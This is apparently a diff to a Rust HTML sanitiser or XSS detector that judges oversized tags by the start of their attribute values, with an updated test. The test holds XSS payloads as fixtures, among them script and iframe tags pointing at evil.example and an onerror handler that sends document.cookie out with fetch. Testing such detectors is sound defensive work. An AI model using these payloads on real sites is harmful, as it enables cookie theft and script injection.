@@ -5,7 +5,7 @@
 
 use super::css;
 use super::js_sink::find_sinks;
-use super::tokenizer::{Tag, Tokens};
+use super::tokenizer::{Attr, Tag, Tokens};
 use super::url_scheme::{decode_entities, url_attr_scheme, Scheme};
 use super::Hit;
 
@@ -531,8 +531,18 @@ fn is_web_scheme(scheme: &str) -> bool {
 pub fn inspect(tokens: &Tokens<'_>, floor: f32) -> Option<(Hit, usize)> {
     let mut best: Option<(f32, Evidence<'_>)> = None;
     let mut strong = 0;
-    for tag in within_budget(&tokens.tags) {
-        if let Some((score, why)) = judge_tag(tag) {
+    let mut spent = 0usize;
+    for tag in &tokens.tags {
+        spent += tag.attrs.iter().map(|a| a.value.len()).sum::<usize>();
+        let verdict = if spent <= super::ATTR_BUDGET {
+            judge_tag(tag)
+        } else {
+            // Past the budget only overlapping values are left (see ATTR_BUDGET): the tag is
+            // still judged, by its name, its attributes and the first bytes of each value.
+            let cut = values_cut(tag);
+            judge_tag(&cut).map(|(s, why)| (s, Evidence::Owned(why.render())))
+        };
+        if let Some((score, why)) = verdict {
             if score >= 0.5 {
                 strong += 1;
             }
@@ -545,18 +555,33 @@ pub fn inspect(tokens: &Tokens<'_>, floor: f32) -> Option<(Hit, usize)> {
         .map(|(score, why)| (Hit::new(score, why.render()), strong))
 }
 
-/// The leading tags whose attribute values fit [`super::ATTR_BUDGET`] together (every tag of any
-/// real text). The rest are left to the readings of the whole text, as past MAX_TAGS.
-fn within_budget<'t, 'a>(tags: &'t [Tag<'a>]) -> &'t [Tag<'a>] {
-    let mut spent = 0usize;
-    let n = tags
-        .iter()
-        .take_while(|t| {
-            spent += t.attrs.iter().map(|a| a.value.len()).sum::<usize>();
-            spent <= super::ATTR_BUDGET
-        })
-        .count();
-    &tags[..n]
+/// Bytes of each attribute value (and of the body) judged in a tag past the budget: a
+/// handler, URL scheme, srcdoc or style shows what it is at its start.
+const CUT_VALUE: usize = 128;
+
+/// `tag` with every attribute value and its body cut to [`CUT_VALUE`] bytes.
+fn values_cut<'a>(tag: &Tag<'a>) -> Tag<'a> {
+    fn cut(s: &str) -> &str {
+        let mut end = s.len().min(CUT_VALUE);
+        while !s.is_char_boundary(end) {
+            end -= 1;
+        }
+        &s[..end]
+    }
+    Tag {
+        name: tag.name.clone(),
+        end: tag.end,
+        attrs: tag
+            .attrs
+            .iter()
+            .map(|a| Attr {
+                name: a.name.clone(),
+                value: cut(a.value),
+            })
+            .collect(),
+        unclosed: tag.unclosed,
+        body: cut(tag.body),
+    }
 }
 
 #[cfg(test)]
@@ -575,37 +600,33 @@ mod tests {
     }
 
     #[test]
-    fn overlapping_handler_values_are_judged_within_the_budget() {
-        // Each tag's unquoted handler runs to the end of the text.
-        let text = "<img/onerror=\\x0Bj\"rsind09057654290<".repeat(1800);
-        let toks = tokenize(&text);
+    fn tags_past_the_budget_are_judged_on_the_start_of_their_values() {
+        // Each tag's unquoted value runs to the end of the text: 128 overlapping values of
+        // up to 50 KB, far past the budget, then the tag that matters.
+        let pad = format!("{}{}", "<a/title=x".repeat(6), "B".repeat(50_000));
+        let toks = tokenize(&pad);
         let all: usize = toks
             .tags
             .iter()
             .flat_map(|t| &t.attrs)
             .map(|a| a.value.len())
             .sum();
-        assert!(
-            all > 4 * super::super::ATTR_BUDGET,
-            "the case overlaps: {all}"
-        );
-        let judged = within_budget(&toks.tags);
-        let spent: usize = judged
-            .iter()
-            .flat_map(|t| &t.attrs)
-            .map(|a| a.value.len())
-            .sum();
-        assert!(
-            spent <= super::super::ATTR_BUDGET && judged.len() >= 3,
-            "{spent} in {}",
-            judged.len()
-        );
-        // Still found: the first tags are judged.
-        assert!(score(&text) >= 0.5);
-        // Real markup: every tag of a long editor text is judged.
-        let page = "<p class=\"lead\">Hi <a href=\"https://example.com/x\">x</a></p>".repeat(1000);
-        let toks = tokenize(&page);
-        assert_eq!(within_budget(&toks.tags).len(), toks.tags.len());
+        assert!(all > super::super::ATTR_BUDGET, "the case overlaps: {all}");
+        assert!(score(&pad) < 0.5);
+        for (tail, at_least) in [
+            (" <script src=//evil.example/x.js></script>", 0.9),
+            (" <iframe src=//evil.example/>", 0.5),
+            (" <img src=x onerror=fetch('//e/'+document.cookie)>", 0.9),
+            (" <a href=javascript:alert(1)>x</a>", 0.9),
+            (" <div style=\"background:url(javascript:alert(1))\">", 0.5),
+            (" <img src=x onerror=/*a long comment*/x>", 0.6),
+        ] {
+            let text = format!("{pad}{tail}");
+            assert!(score(&text) >= at_least, "{tail}: {}", score(&text));
+        }
+        let cut = values_cut(&toks.tags[0]);
+        assert!(cut.attrs.iter().all(|a| a.value.len() <= CUT_VALUE));
+        assert_eq!(cut.name, toks.tags[0].name);
     }
 
     #[test]
